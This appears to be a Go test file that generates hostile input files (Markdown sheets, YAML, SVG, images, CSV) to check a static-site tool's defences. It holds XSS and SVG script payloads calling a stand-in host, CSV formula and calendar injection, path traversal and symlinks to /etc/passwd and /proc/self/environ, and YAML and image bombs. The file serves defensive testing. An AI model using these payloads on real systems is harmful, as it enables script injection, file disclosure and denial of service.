package browsertest

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"strings"
)

// hostile is a file that somebody could send to do harm.
type hostile struct {
	name string                  // its path in the content
	text string                  // of a file that memory has
	make func(path string) error // what is no text, or too large to be one here
	with map[string]string       // files without which it does nothing
	read bool                    // it is within the limits, and nothing is said of it
}

// class is what hostile files of one kind try.
type class struct {
	name  string
	files []hostile
	said  bool // each is reported at its place, if only to be told of
	drawn bool // they are pictures, which are looked at when a site is made
	alone bool // they are about the whole site, and cannot be in the same as others
}

// localEditor is the class that is opened in the local editor.
const localEditor = "local editor"

// fewest is how many files prove something of a class.
const fewest = 8

// corpus is the classes of hostile files, those of the payloads first.
func corpus() []class {
	var list []class
	for _, way := range []struct{ name, class string }{
		{"element", "raw HTML"}, {"event", "event attributes"}, {"drawing", "SVG in a text"}, {"attribute", "out of an attribute"},
		{"data", "out of JSON-LD"}, {"link", "script and data links in HTML"},
	} {
		list = append(list, class{name: way.class, files: atEachPlace(way.name)})
	}
	return append(list,
		class{name: "script and data links", files: documents("adresse", "[a](%s) ![b](%s)\n", scriptLinks), said: true},
		class{name: "JSON-LD and the lists of events", files: events("donnees", payloads["data"])},
		class{name: "Atom", files: latest("atom", payloads["feed"])},
		class{name: "iCalendar", files: events("agenda", calendarLines)},
		class{name: "formulas in CSV", files: latest("cellule", formulas)},
		class{name: "results of the search", files: append(latest("resultat", payloads["result"]), latest("objet", objectKeys)...)},
		class{name: "configuration of web editors", files: settings(), alone: true},
		class{name: localEditor, files: drafts()},
		class{name: "characters that turn a text", files: turned(), said: true},
		class{name: "look-alike addresses", files: disguised(), said: true},
		class{name: "links of the file system", files: fileLinks, said: true},
		class{name: "paths that climb", files: climbing(), said: true},
		class{name: "YAML aliases", files: bombs(), said: true},
		class{name: "50 MB", files: heavy, said: true},
		class{name: "100,000 items", files: endless(), said: true},
		class{name: "deep nesting", files: deepFiles(), said: true},
		class{name: "pictures over 100 megapixels", files: shown("vaste", vastPictures()), drawn: true, said: true},
		class{name: "malformed pictures", files: shown("casse", malformedPictures()), drawn: true, said: true},
		class{name: "SVG files with scripts", files: drawings(), drawn: true, said: true},
		class{name: "names that Windows reserves", files: named(reservedNames...), said: true},
		class{name: "names that differ by case", files: inTwoCases(), said: true},
		class{name: "names of 300 characters", files: named(longNames()...), said: true},
	)
}

// places are where a payload may stand in a document.
var places = []struct{ head, body string }{
	{"titre: Un titre\nresume: Un texte.\n", "Avant %s après.\n"},
	{"titre: %s\nresume: %s\n", ""},
	{"titre: Un titre\nresume: Un texte.\nmots_cles: [%s]\nsource: {titre: %s}\n", ""},
	{"titre: Un titre\nresume: Un texte.\n", "## %s\n\n![%s](../images/a.svg)\n"},
}

// atEachPlace puts each payload of a way at each place of a sheet.
func atEachPlace(way string) []hostile {
	var list []hostile
	for i, payload := range payloads[way] {
		for j, p := range places {
			list = append(list, hostile{
				name: fmt.Sprintf("fiches/%s-%d-%d.md", way, i, j),
				text: sheetOf(strings.ReplaceAll(p.head, "%s", quoted(payload)), strings.ReplaceAll(p.body, "%s", payload)),
			})
		}
	}
	return list
}

func sheetOf(head, body string) string {
	return "---\n" + head + "date: 2026-01-01\n---\n\n" + body
}

// quoted is a text as YAML has it between quotes, every sign of it kept.
func quoted(text string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range text {
		switch {
		case r == '"' || r == '\\':
			b.WriteString(`\` + string(r))
		case r < ' ' || r > '~':
			fmt.Fprintf(&b, `\U%08X`, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String() + `"`
}

const plainHead = "titre: Un titre\nresume: Un texte.\n"

// documents are sheets whose text has each of the words where the form has %s.
func documents(name, form string, words []string) []hostile {
	var list []hostile
	for i, word := range words {
		list = append(list, hostile{name: fmt.Sprintf("fiches/%s-%d.md", name, i), text: sheetOf(plainHead, strings.ReplaceAll(form, "%s", word))})
	}
	return list
}

// latest are sheets that have each of the words in their keys, and are in the feeds. The
// search finds them by the word « cible ».
func latest(name string, words []string) []hostile {
	var list []hostile
	for i, word := range words {
		w := quoted(word)
		list = append(list, hostile{
			name: fmt.Sprintf("fiches/%s-%d.md", name, i),
			text: "---\ntitre: " + w + "\nresume: " + w + "\nauteur: " + w + "\nmots_cles: [cible, " + w + "]\ndate: 2026-11-20\n---\n\nTexte.\n",
		})
	}
	return list
}

// events have each of the words in their keys.
func events(name string, words []string) []hostile {
	var list []hostile
	for i, word := range words {
		w := quoted(word)
		list = append(list, hostile{
			name: fmt.Sprintf("evenements/%s-%d.md", name, i),
			text: "---\ntitre: " + w + "\nresume: " + w + "\ndebut: 2027-01-15 14:00\nfin: 2027-01-15 16:00\nlieu: " + w + "\norganisme: " + w + "\n---\n\nTexte.\n",
		})
	}
	return list
}

var (
	scriptLinks = []string{
		"javascript:" + call, "data:text/html,<script>" + call + "</script>", "JAVASCRIPT:a()", "java&#10;script:a()", "vbscript:a()",
		"<javascript:a()>", "java\\script:a()", "&#106;avascript:a()", "blob:x", "//touche.example",
	}
	formulas = []string{
		"=HYPERLINK(\"//touche.example\")", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|x!A1", "\t=1+1", "=IMPORTXML(\"//touche.example\")", "\r=1+1", "\uff1d1+1",
	}
	// calendarLines would begin a line of a calendar, for a reader of some kind.
	calendarLines = []string{
		"a\r\nATTACH:https://touche.example/", "a\nURL:https://touche.example/", "a\rORGANIZER:mailto:a@touche.example",
		"a\nEND:VEVENT\nBEGIN:VALARM\nACTION:EMAIL", "a\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR", "a\u2028ATTACH:https://touche.example/",
		"a\u0085ATTACH:https://touche.example/", "a\u000bATTACH:https://touche.example/", "a\u000cATTENDEE:mailto:a@touche.example", "a\u001eATTACH:https://touche.example/",
	}
	// objectKeys mean something of their own where a table is an object.
	objectKeys = []string{"__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", "prototype", "then"}
)

// settings are those of the site, whose title and addresses the page of a web editor has.
func settings() []hostile {
	var list []hostile
	for _, payload := range payloads["attribute"] {
		list = append(list, hostile{text: "titre: " + quoted(payload) + "\nbase_url: https://essai.example.org/\n"})
	}
	for _, value := range []string{
		"base_url: \"https://essai.example.org/'; script-src *; a '\"\n",
		"base_url: \"https://essai.example.org/\\n  X-Touche: 1\"\n",
		"base_url: \"https://essai.example.org/\\\"><script src=//touche.example></script>\"\n",
		"base_url: https://essai.example.org/\ndepot: {url: \"https://github.com/a/b; script-src *\"}\n",
		"base_url: https://essai.example.org/\ndepot: {url: \"https://touche.example; default-src */a/b\"}\n",
		"base_url: https://essai.example.org/\ndepot: {url: \"https://github.com/a/b\\n  X-Touche: 1\"}\n",
		"base_url: https://essai.example.org/\ndepot: {url: https://github.com/a/b, branche: \"a\\nbackend: {name: touche}\"}\n",
		"base_url: https://essai.example.org/\ndepot: {url: https://github.com/a/b, branche: \"a}, backend: {name: touche\"}\n",
	} {
		list = append(list, hostile{text: "titre: Essai\n" + value})
	}
	for i := range list {
		list[i].name = "recueil.yaml"
	}
	return list
}

// drafts have payloads of every way, wherever the editor shows what a file says: it opens
// the files that are refused, too.
func drafts() []hostile {
	var list []hostile
	for i := range fewest {
		var words []string
		for _, way := range []string{"element", "event", "drawing", "attribute", "data", "link"} {
			words = append(words, payloads[way][i])
		}
		all := strings.Join(words, " ")
		list = append(list, hostile{
			name: fmt.Sprintf("fiches/atelier-%d.md", i),
			text: sheetOf("titre: "+quoted(words[3])+"\nresume: "+quoted(words[1])+"\nmots_cles: ["+quoted(words[4])+", "+quoted(words[5])+"]\nauteur: "+quoted(words[2])+"\n"+
				quoted(words[3])+": "+quoted(words[0])+"\n", all+"\n\n## "+all+"\n\n[a](javascript:"+call+")\n\n```\n"+all+"\n```\n"),
		})
	}
	return list
}

// turned has a character that turns what is around it, or hides, in each way to write it.
func turned() []hostile {
	list := documents("sens", "%s\n", []string{"Un \u202etexte", "Un &#x202d;texte", "Un &#8294;texte", "[un \u2067mot](../fiches/a.md)", "![un \u2066mot](../images/a.svg)", "```\na \u202e b\n```", "Un \U000e0041texte"})
	for i, head := range []string{"titre: \"Un \\u202etitre\"\nresume: a\n", "titre: Un \u202btitre\nresume: a\n", "titre: a\nresume: \"Un \\U0000202Aresume\"\n", plainHead + "mots_cles: [\"a\\u2068b\"]\n", plainHead + "auteur: \"a\\u202eb\"\n"} {
		list = append(list, hostile{name: fmt.Sprintf("fiches/sens-cle-%d.md", i), text: sheetOf(head, "")})
	}
	return append(list,
		hostile{name: "fiches/sens-\u202efdp.md", text: sheetOf(plainHead, "")},
		hostile{name: "fichiers/modele-\u202efdp.docx", text: "PK"},
		hostile{name: "glossaire.yaml", text: "- terme: \"un \\u202emot\"\n  definition: Un sens.\n"},
	)
}

// disguised are addresses that are not those that they seem to be, in a text and in a key.
func disguised() []hostile {
	addresses := []string{
		"https://imp\u043ets.gouv.fr/", "https://xn--impts-lye.gouv.fr/", "https://\u03b1mazon.example.org/", "https://www.\u0441ci.example.org/",
		"https://impots.gouv.fr@autre.example.org/", "https://impots.gouv.fr:80@autre.example.org/", "https://\u13a0mende.example.org/", "https://\u0430\u0440\u0440\u04cf\u0435.example.org/",
	}
	list := documents("semblable", "[les imp\u00f4ts](%s)\n", addresses)
	for i, a := range addresses {
		list = append(list, hostile{name: fmt.Sprintf("aides/semblable-%d.md", i), text: "---\n" + plainHead + "organisme: Un office\nurl: " + quoted(a) + "\n---\n"})
	}
	return list
}

func linkTo(target string) func(string) error {
	return func(path string) error { return os.Symlink(target, path) }
}

var fileLinks = []hostile{
	{name: "fiches/a.md", make: linkTo("../../../../etc/passwd")},
	{name: "fiches/b.md", make: linkTo("/etc/passwd")},
	{name: "fiches/c.md", make: linkTo("/dev/zero")},
	{name: "fiches/d.md", make: linkTo("d.md")},
	{name: "fiches/e.md", make: linkTo("nulle-part.md")},
	{name: "images/f.jpg", make: linkTo("/etc/hostname")},
	{name: "fichiers/g", make: linkTo("/etc")},
	{name: "fichiers/h", make: linkTo("..")},
	{name: "glossaire.yaml", make: linkTo("/etc/hosts")},
	{name: "racine/i.txt", make: linkTo("/proc/self/environ")},
}

func climbing() []hostile {
	paths := []string{"../../../etc/passwd", "/../../etc/passwd", "..%2f..%2fetc%2fpasswd", "../images/../../recueil.yaml", "file:///etc/passwd", "..\\..\\etc\\passwd", "../fichiers/../../../etc/passwd", "%2e%2e/%2e%2e/etc/passwd"}
	list := documents("chemin", "![a](%s) [b](%s)\n", paths)
	for i, p := range paths {
		list = append(list, hostile{name: fmt.Sprintf("fiches/chemin-cle-%d.md", i), text: sheetOf(plainHead+"image: {fichier: "+quoted(p)+", alt: a}\nalias: ["+quoted(p)+"]\nvoir_aussi: ["+quoted(p)+"]\n", "")})
	}
	return list
}

// bombs are texts that grow as they are read, where a reader follows aliases.
func bombs() []hostile {
	laughs := func(open, between, end string) string {
		var b strings.Builder
		fmt.Fprintf(&b, "a0: &a0 %sha%s\n", open, end)
		for i := range 9 {
			one := fmt.Sprintf("*a%d", i)
			fmt.Fprintf(&b, "a%d: &a%d %s%s%s\n", i+1, i+1, open, strings.Repeat(one+between, 8)+one, end)
		}
		return b.String()
	}
	list := laughs("[", ", ", "]")
	return []hostile{
		{name: "fiches/bombe-0.md", text: sheetOf(plainHead+list+"mots_cles: *a9\n", "")},
		{name: "fiches/bombe-1.md", text: sheetOf(plainHead+"x: &x {y: *x}\n", "")},
		{name: "fiches/bombe-2.md", text: sheetOf(plainHead+"a: &a {b: c}\nd: {<<: *a, <<: *a}\n", "")},
		{name: "fiches/bombe-3.md", text: sheetOf(plainHead+"mots_cles: &m [*m, *m]\n", "")},
		{name: "fiches/bombe-4.md", text: sheetOf(plainHead+"source: &s\n  titre: a\n  url: *s\n", "")},
		{name: "recueil.yaml", text: "titre: Essai\nbase_url: https://essai.example.org/\n" + list},
		{name: "glossaire.yaml", text: "- &a {terme: a, definition: b}\n" + strings.Repeat("- *a\n", 1000)},
		{name: "synonymes.yaml", text: "groupes:\n- &a [un, deux]\n" + strings.Repeat("- *a\n", 1000)},
		{name: "editions/bombe.yaml", text: "titre: Une édition\nterritoires: &t [bretagne, *t]\n"},
		{name: "secteurs/bombe.md", text: "---\n" + plainHead + list + "naf: *a9\n---\n"},
	}
}

// sized makes a file that begins with a text and takes no room on a disk.
func sized(megabytes int64, text string) func(string) error {
	return func(path string) error {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			return err
		}
		return os.Truncate(path, megabytes<<20)
	}
}

var heavy = []hostile{
	{name: "fiches/lourd.md", make: sized(50, sheetOf(plainHead, "Un texte."))},
	{name: "fiches/vide.md", make: sized(50, "")},
	{name: "secteurs/lourd.md", make: sized(50, "---\n"+plainHead+"---\n")},
	{name: "recueil.yaml", make: sized(50, "titre: Essai\nbase_url: https://essai.example.org/\n")},
	{name: "glossaire.yaml", make: sized(50, "- terme: a\n")},
	{name: "synonymes.yaml", make: sized(50, "groupes:\n")},
	{name: "orthographe.txt", make: sized(50, "mot\n")},
	{name: "editions/lourd.yaml", make: sized(50, "titre: Une édition\n")},
	{name: "activateurs/activateurs.csv", make: sized(50, "titre;resume\n")},
	{name: "fichiers/film.mp4", make: sized(500, "")},
}

// endless are lists of a hundred thousand, as far as their files may go.
func endless() []hostile {
	const n = 100_000
	many := func(item string) string { return strings.Repeat(item, n) }
	return []hostile{
		{name: "fiches/liste-0.md", text: sheetOf(plainHead+"mots_cles: ["+many("a,")+"a]\n", "")},
		{name: "fiches/liste-1.md", text: sheetOf(plainHead+"mots_cles:\n"+many("- a\n"), "")},
		{name: "fiches/liste-2.md", text: sheetOf(plainHead+"mots_cles:\n"+strings.Repeat("- a\n", 30_000), "")},
		{name: "fiches/liste-3.md", text: sheetOf(plainHead+"ignore:\n"+strings.Repeat("- {regle: a, raison: b}\n", 4000), "")},
		{name: "fiches/liste-4.md", text: sheetOf(plainHead, strings.Repeat("- a\n", 30_000)), read: true},
		{name: "fiches/liste-5.md", text: sheetOf(plainHead, "|a|\n|-|\n"+strings.Repeat("|b|\n", 30_000))},
		{name: "fiches/liste-6.md", text: sheetOf(plainHead, strings.Repeat("![](a)\n\n", 15_000))},
		{name: "glossaire.yaml", text: many("- {}\n")},
		{name: "synonymes.yaml", text: "groupes:\n-\n" + many("  - a\n")},
		{name: "orthographe.txt", text: many("mot trop long\n")},
		{name: "editions/liste.yaml", text: "titre: Une édition\nterritoires:\n" + many("- bretagne\n")},
		{name: "activateurs/activateurs.csv", text: "titre;resume\n" + many("Un;Aide.\n")},
		{name: "activateurs/activateurs.csv", text: many("titre;") + "\nUn\n"},
	}
}

func deepFiles() []hostile {
	deep := func(n int, open, text, end string) string {
		return strings.Repeat(open, n) + text + strings.Repeat(end, n)
	}
	var block strings.Builder
	for i := range 300 {
		block.WriteString(strings.Repeat(" ", i) + "a:\n")
	}
	bodies := []string{
		deep(3000, "- ", "a", ""), deep(3000, "> ", "a", ""), deep(3000, "1. ", "a", ""), deep(5000, "*a ", "b", "*"),
		deep(6000, "[", "a", "](b)"), deep(6000, "![", "a", "](b)"), deep(9000, "<b>", "a", "</b>"), deep(9000, "<div>\n", "a", "</div>\n"),
	}
	list := documents("profond", "%s\n", bodies)
	for i, head := range []string{
		"mots_cles: " + deep(9000, "[", "a", "]") + "\n", "source: " + deep(4000, "{titre: ", "a", "}") + "\n", block.String(),
		"mots_cles:\n" + deep(5000, "- ", "a", "") + "\n",
	} {
		list = append(list, hostile{name: fmt.Sprintf("fiches/profond-cle-%d.md", i), text: sheetOf(plainHead+head, "")})
	}
	return append(list,
		hostile{name: "recueil.yaml", text: "titre: Essai\nbase_url: https://essai.example.org/\nediteur: " + deep(4000, "{nom: ", "a", "}") + "\n"},
		hostile{name: "glossaire.yaml", text: deep(5000, "- ", "a", "") + "\n"},
		hostile{name: "fiches/" + deep(200, "a/", "b", "") + ".md", text: sheetOf(plainHead, "")},
	)
}

// shown are pictures, each with a sheet that shows it.
func shown(name string, pictures map[string]string) []hostile {
	var list []hostile
	for file, data := range pictures {
		list = append(list, hostile{
			name: "images/" + name + "-" + file, text: data,
			with: map[string]string{"fiches/" + name + "-" + strings.ReplaceAll(file, ".", "-") + ".md": sheetOf(plainHead, "![a](../images/"+name+"-"+file+")\n")},
		})
	}
	return list
}

// vastPictures claim more points than recueil decodes, in files of a few bytes.
func vastPictures() map[string]string {
	return map[string]string{
		"a.png": pngOf(20_000, 20_000), "b.png": pngOf(1, 1<<31-1), "c.png": pngOf(1<<31-1, 1<<31-1),
		"d.gif": "GIF89a\xff\xff\xff\xff\x00\x00\x00;", "e.gif": "GIF87a\xff\xff\xff\x7f\x00\x00\x00;",
		"f.jpg":  "\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00\xff\xd9",
		"g.jpeg": "\xff\xd8\xff\xc2\x00\x0b\x08\x7f\xff\x7f\xff\x01\x01\x11\x00\xff\xd9",
		"h.webp": riff("VP8L", "\x2f\xff\xff\xff\x0f"), "i.webp": riff("VP8X", "\x00\x00\x00\x00\xff\xff\x00\xff\xff\x00"),
	}
}

// malformedPictures are not what their names say, or not all of it.
func malformedPictures() map[string]string {
	return map[string]string{
		"a.png": "", "b.png": "du texte", "c.png": pngOf(10, 10), "d.png": pngOf(10, 10)[:20], "e.png": pngOf(0, 10),
		"f.jpg": "\xff\xd8\xff", "g.jpg": "\xff\xd8" + strings.Repeat("\xff\xe1\xff\xff", 9), "h.gif": "GIF89a" + strings.Repeat("\xff", 40),
		"i.webp": riff("VP8 ", "\x00\x00\x00\x9d\x01\x2a"), "j.webp": "RIFF\xff\xff\xff\xffWEBP", "k.jpg": "<html><script>" + call + "</script></html>",
		"l.svg": "<svg", "m.svg": `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><text>&b;</text></svg>`,
		"n.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">` + strings.Repeat("<g>", 100_000) + "</svg>",
	}
}

func pngOf(width, height uint32) string {
	header := binary.BigEndian.AppendUint32([]byte("IHDR"), width)
	header = append(binary.BigEndian.AppendUint32(header, height), 8, 2, 0, 0, 0)
	return "\x89PNG\r\n\x1a\n\x00\x00\x00\x0d" + string(binary.BigEndian.AppendUint32(header, crc32.ChecksumIEEE(header)))
}

func riff(chunk, body string) string {
	sized := func(text string) string {
		return string(binary.LittleEndian.AppendUint32(nil, uint32(len(text)))) + text
	}
	return "RIFF" + sized("WEBP"+chunk+sized(body))
}

// drawings are the SVG files that run something when they are opened by themselves, among
// pictures and among the files that are published as they are.
func drawings() []hostile {
	list := shown("dessin", svgFiles())
	for name, text := range svgFiles() {
		list = append(list, hostile{name: "fichiers/" + name, text: text})
	}
	return list
}

func svgFiles() map[string]string {
	files := map[string]string{}
	for i, inner := range []string{
		`<script>` + call + `</script>`, `<script href="//touche.example"/>`, `<image href="x" onerror="` + call + `"/>`,
		`<animate onbegin="` + call + `" attributeName="x" dur="1s"/>`, `<set onbegin="` + call + `" attributeName="x"/>`,
		`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//touche.example"/></foreignObject>`, `<image href="//touche.example"/>`,
		`<style>@import "//touche.example";</style>`, `<h:script xmlns:h="http://www.w3.org/1999/xhtml">` + call + `</h:script>`,
	} {
		files[fmt.Sprintf("%d.svg", i)] = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">` + inner + `</svg>`
	}
	files["9.svg"] = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" onload="` + call + `"/>`
	return files
}

// named are files of harmless words under those names.
func named(names ...string) []hostile {
	var list []hostile
	for _, name := range names {
		text := "x"
		switch {
		case strings.HasSuffix(name, ".md"):
			text = sheetOf(plainHead, "")
		case strings.HasSuffix(name, ".yaml"):
			text = "titre: Une édition\nterritoires: [bretagne]\n"
		case strings.HasSuffix(name, ".svg"):
			text = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>`
		}
		list = append(list, hostile{name: name, text: text})
	}
	return list
}

var reservedNames = []string{"fiches/CON.md", "fiches/con.md", "fiches/nul.md", "fiches/com1.md", "pages/aux.md", "editions/lpt9.yaml", "images/PRN.svg", "fichiers/CON.pdf", "fichiers/aux/a.pdf", "racine/NUL.txt", "fiches/con.fr.md"}

func longNames() []string {
	x := strings.Repeat("x", 300)
	return []string{"fiches/" + x + ".md", "pages/" + x + ".md", "evenements/" + strings.Repeat("é", 300) + ".md", "editions/" + x + ".yaml", "images/" + x + ".svg", "fichiers/" + x + ".pdf", "fichiers/" + x + "/a.pdf", "racine/" + x + ".txt", x + ".md", "territoires/" + x + "/fiches/a.md"}
}

// inTwoCases are names that many systems take for that of another file.
func inTwoCases() []hostile {
	list := named("fiches/Vente.md", "fiches/VENTE.md", "fiches/vente.MD", "pages/A-Propos.md", "editions/Bretagne.yaml", "images/Logo.svg", "fichiers/Guide.pdf", "fichiers/Modeles/a.pdf", "racine/Preuve.txt", "Fiches/vente.md")
	for i, f := range list {
		if lower := strings.ToLower(f.name); lower != f.name {
			list[i].with = map[string]string{lower: named(lower)[0].text}
		}
	}
	return list
}
